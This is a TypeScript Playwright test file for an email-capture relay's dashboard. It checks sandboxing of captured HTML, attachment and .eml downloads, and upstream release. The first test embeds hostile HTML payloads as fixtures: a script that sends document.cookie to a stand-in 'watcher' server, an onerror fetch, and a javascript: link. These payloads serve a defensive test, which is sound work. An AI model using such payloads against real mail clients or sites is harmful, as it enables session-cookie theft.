/// <reference lib="dom" />
// (page.evaluate callbacks run in the browser)
// A captured message in Chromium: hostile HTML runs nothing and reaches no cookie, remote loads
// wait for the reader, attachments and the raw source download intact, release names its
// recipient and goes through the upstream.
import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import { readFile } from 'node:fs/promises';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { after, before, describe, it } from 'node:test';
import type { Frame, Page } from 'playwright-core';
import { startRelay } from '../../relay/app.js';
import { launchBrowser, newPage, screenshot, signIn, type TestBrowser } from '../helpers/browser.js';
import { startFakeUpstream } from '../helpers/fake-upstream.js';
import { composeMessage } from '../helpers/mime.js';
import { smtpSendOnce } from '../helpers/smtp-send.js';
import { ADMIN_TOKEN, startTestRelay, type TestRelay } from '../helpers/start-relay.js';

/** A server standing for "the internet": it counts what the captured HTML manages to load. */
async function startWatcher() {
  const hits: string[] = [];
  const waiters: Array<{ path: string; resolve: () => void }> = [];
  const server = http.createServer((req, res) => {
    hits.push(req.url ?? '');
    for (const w of waiters.filter((w) => req.url?.startsWith(w.path))) w.resolve();
    res.writeHead(200, { 'content-type': 'image/gif' });
    res.end(Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64'));
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  return {
    url,
    hits,
    next: (path: string) => new Promise<void>((resolve) => waiters.push({ path, resolve })),
    close: () => new Promise<void>((resolve) => server.close(() => resolve())),
  };
}

async function htmlFrame(page: Page): Promise<Frame> {
  const frame = await (await page.locator('iframe').elementHandle())!.contentFrame();
  assert.ok(frame);
  await frame.waitForLoadState('load');
  return frame;
}

describe('dashboard message view', () => {
  let t: TestRelay;
  let b: TestBrowser;
  let watcher: Awaited<ReturnType<typeof startWatcher>>;
  before(async () => {
    [t, b, watcher] = await Promise.all([startTestRelay(), launchBrowser(), startWatcher()]);
  });
  after(async () => {
    await b?.close();
    await t?.stop();
    await watcher?.close();
  });

  async function openMessage(page: Page, subject: string) {
    await signIn(page, t);
    await page.locator('.message-row').filter({ hasText: subject }).click();
    await page.getByTestId('subject').filter({ hasText: subject }).waitFor();
  }

  it('runs no script of a captured HTML body, which cannot read the cookie, and blocks remote loads until asked', async () => {
    const html = [
      '<p id="hello">Hello from HTML</p>',
      `<script>document.body.setAttribute('data-script-ran', '1'); fetch('${watcher.url}/leak?c=' + document.cookie); top.document.title = 'pwned';</script>`,
      `<img src="x" onerror="document.body.setAttribute('data-onerror-ran', '1'); fetch('${watcher.url}/leak-onerror')">`,
      `<img id="remote" src="${watcher.url}/pixel.gif" alt="remote">`,
      `<a href="javascript:document.body.setAttribute('data-link-ran','1')" id="js-link">link</a>`,
    ].join('\n');
    const sent = await t.send({ subject: 'Hostile HTML', html, text: 'plain part' });
    assert.equal(sent.status, 202, sent.text);
    await t.waitForFinal(sent.body.id);

    const { context, page } = await newPage(b);
    await openMessage(page, 'Hostile HTML');
    const frame = await htmlFrame(page);
    await frame.locator('#hello').waitFor();
    // The load event came after every inline script and every image error would have run.
    assert.equal(await frame.evaluate(() => document.body.getAttribute('data-script-ran')), null);
    assert.equal(await frame.evaluate(() => document.body.getAttribute('data-onerror-ran')), null);
    const cookie = await frame.evaluate(() => {
      try {
        return `read:${document.cookie}`;
      } catch (error) {
        return `refused:${(error as Error).name}`;
      }
    });
    assert.equal(cookie, 'refused:SecurityError', 'the frame has no origin, so no cookie');
    await frame.locator('#js-link').click({ noWaitAfter: true }).catch(() => undefined);
    assert.equal(await frame.evaluate(() => document.body.getAttribute('data-link-ran')), null);
    assert.notEqual(await page.title(), 'pwned');
    // The remote image was not requested: the frame finished loading without it.
    assert.equal(watcher.hits.length, 0, watcher.hits.join());
    assert.match(await page.getByTestId('remote-blocked').innerText(), /1 remote resource blocked/);
    await screenshot(page, 'message');

    const pixel = watcher.next('/pixel.gif');
    await page.getByRole('button', { name: 'Load remote content' }).click();
    await pixel;
    const allowed = await htmlFrame(page);
    await allowed.locator('#hello').waitFor();
    assert.equal(await allowed.evaluate(() => document.body.getAttribute('data-script-ran')), null);
    assert.deepEqual(watcher.hits.filter((h) => h.startsWith('/leak')), [], 'no script ran with remote loads allowed either');

    // The HTML endpoint carries its own policy, even when opened on its own.
    const res = await fetch(`${t.directUrl}/admin/v1/messages/${(await t.admin('GET', '/admin/v1/inbox?q=subject:hostile')).body.messages[0].id}/html`, {
      headers: { authorization: `Bearer ${ADMIN_TOKEN}` },
    });
    const csp = res.headers.get('content-security-policy')!;
    assert.match(csp, /default-src 'none'/);
    assert.match(csp, /\bsandbox\b/);
    assert.doesNotMatch(csp, /script-src/);
    await context.close();
  });

  it('downloads an attachment and the .eml with their bytes intact, and shows each view', async () => {
    const bytes = randomBytes(48 * 1024);
    const raw = await composeMessage({
      from: 'Reports <reports@files.test>',
      to: 'me@files.test',
      subject: 'Your export',
      text: 'The export is attached.',
      html: '<p>The export is <b>attached</b>.</p>',
      attachments: [{ filename: 'export ü.bin', content: bytes, contentType: 'application/octet-stream' }],
    });
    await smtpSendOnce(t.relay.smtpHost, t.relay.smtpPort, 'reports@files.test', ['me@files.test'], raw);
    const { context, page } = await newPage(b);
    await openMessage(page, 'Your export');
    const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('link', { name: /export ü\.bin/ }).click()]);
    assert.equal(download.suggestedFilename(), 'export ü.bin');
    assert.ok((await readFile((await download.path())!)).equals(bytes), 'the attachment bytes are intact');

    const [eml] = await Promise.all([page.waitForEvent('download'), page.getByRole('link', { name: 'Download .eml' }).click()]);
    assert.match(eml.suggestedFilename(), /^msg_\w+\.eml$/);
    assert.ok((await readFile((await eml.path())!)).equals(raw), 'the raw source is the message as received');

    await page.getByRole('tab', { name: 'Text' }).click();
    await page.locator('.text-body').filter({ hasText: 'The export is attached.' }).waitFor();
    await page.getByRole('tab', { name: 'Raw' }).click();
    await page.locator('.raw').filter({ hasText: 'Content-Disposition: attachment' }).waitFor();
    await page.getByRole('tab', { name: 'HTML' }).click();
    await page.getByRole('button', { name: 'phone' }).click();
    assert.equal(await page.locator('iframe').evaluate((el) => (el as HTMLIFrameElement).style.width), '375px');
    await context.close();
  });

  it('refuses release without an upstream on its first dialog, then releases through one after a restart', async () => {
    await smtpSendOnce(t.relay.smtpHost, t.relay.smtpPort, 'dev@app.test', ['qa@app.test'], 'From: dev@app.test\r\nTo: qa@app.test\r\nSubject: Release me\r\n\r\nbody\r\n');
    const { context, page } = await newPage(b);
    await openMessage(page, 'Release me');
    await page.getByRole('button', { name: 'Release…' }).click();
    // Said at once (issue 20: it used to ask for a recipient and a confirmation first).
    const first = page.getByRole('dialog', { name: 'Release to a real address' });
    await first.getByRole('alert').filter({ hasText: 'needs an upstream SMTP provider' }).waitFor();
    assert.equal(await first.getByLabel('Recipient').count(), 0, 'no recipient is asked for');
    await first.getByRole('button', { name: 'Close' }).click();
    await context.close();

    // The same data directory, now with an upstream: the captured message can go out.
    const upstream = await startFakeUpstream();
    const dataDir = t.dataDir;
    const id = (await t.admin('GET', '/admin/v1/inbox?q=subject:"release me"')).body.messages[0].id as string;
    await t.relay.stop();
    const relay = await startRelay({ flags: { dataDir, port: 0, smtpPort: 0, adminToken: ADMIN_TOKEN, upstream: upstream.url, logLevel: 'error' }, env: {} });
    try {
      const second = await newPage(b);
      await second.page.goto(`${relay.httpUrl}/#/inbox/${id}`);
      await second.page.locator('#admin-token').fill(ADMIN_TOKEN);
      await second.page.getByRole('button', { name: 'Sign in' }).click();
      await second.page.getByTestId('subject').filter({ hasText: 'Release me' }).waitFor();
      await second.page.getByRole('button', { name: 'Release…' }).click();
      await second.page.getByLabel('Recipient').fill('real@elsewhere.test');
      await second.page.getByRole('button', { name: 'Release', exact: true }).click();
      await second.page.getByRole('button', { name: 'Send to real@elsewhere.test' }).click();
      await second.page.getByRole('status').filter({ hasText: 'Sent to real@elsewhere.test.' }).waitFor();
      assert.equal(upstream.received.length, 1);
      assert.deepEqual(upstream.received[0]!.to, ['real@elsewhere.test']);
      assert.match(upstream.received[0]!.raw, /Subject: Release me/);
      await second.context.close();
    } finally {
      await relay.stop();
      await upstream.close();
    }
  });
});
